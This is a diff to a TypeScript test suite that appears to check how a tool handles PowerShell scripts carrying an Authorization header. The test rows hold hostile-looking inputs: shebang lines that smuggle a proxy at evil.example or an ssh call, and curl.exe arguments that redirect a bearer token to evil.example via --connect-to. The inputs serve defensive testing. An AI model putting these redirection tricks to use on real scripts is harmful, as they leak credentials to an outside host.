@@ -1096,6 +1096,34 @@ describe('who may get the header', () => {
         ],
       ),
       ...[
+        '#!/usr/bin/env -S CURL_HOME=./cfg pwsh',
+        '#!/usr/bin/env -S https_proxy=http://evil.example:3128 pwsh',
+        '#!/usr/bin/env -S ssh h pwsh',
+        '#!/bin/bash',
+      ].map((line): Row => [
+        'a first line that starts another program than PowerShell',
+        powershellFormat,
+        `${line}\ncurl ${url}\n`,
+        /^unknown 1: its first line may start another program than PowerShell$/,
+        /^unknown 1: its first line may start another program than PowerShell$/,
+      ]),
+      ...['#!/usr/bin/env pwsh', '#!/usr/bin/pwsh -NoProfile -NoLogo', '#!/usr/local/bin/pwsh-preview'].map(
+        (line): Row => [
+          'a first line that names PowerShell',
+          powershellFormat,
+          `${line}\ncurl ${url}\n`,
+          /^changed 1$/,
+          /^changed 1$/,
+        ],
+      ),
+      [
+        'a command of a notebook that looks like a comment',
+        powershellFormat,
+        `# x\n#!import ./common.ps1\nirm ${url}\n`,
+        /^changed 1$/,
+        /^unknown 2/,
+      ],
+      ...[
         `$agent = 'demo','--connect-to','::evil.example:443'\ncurl.exe -H 'Authorization: Bearer x' -A @agent ${url}\n`,
         `$body = Get-Content b.json\ncurl.exe -H 'Authorization: Bearer x' -d @body ${url}\n`,
         `function f {\n  curl.exe -H 'Authorization: Bearer x' -o @script:p ${url}\n}\n`,
